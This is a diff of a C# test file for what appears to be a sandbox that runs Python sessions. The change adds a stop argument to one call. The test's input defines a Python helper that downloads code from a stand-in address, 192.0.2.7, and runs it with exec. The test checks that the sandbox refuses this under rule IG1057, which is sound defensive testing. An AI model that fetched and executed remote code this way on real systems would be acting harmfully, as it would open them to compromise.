@@ -58,7 +58,7 @@ public sealed class SessionTests(ContainmentHost containment)
         await session.CompletesAsync("from urllib.request import urlopen\nload = lambda: urlopen('http://192.0.2.7/x').read()\ndouble = lambda n: 2 * n");
         await session.CompletesAsync("print(double(3))");
 
-        var refused = await session.RunAsync("exec(load())");
+        var refused = await session.RunAsync("exec(load())", stop: Stop);
 
         Assert.Equal("refused", refused.Status);
         Assert.Contains(refused.Findings, finding => finding.GetProperty("rule").GetString() == "IG1057");
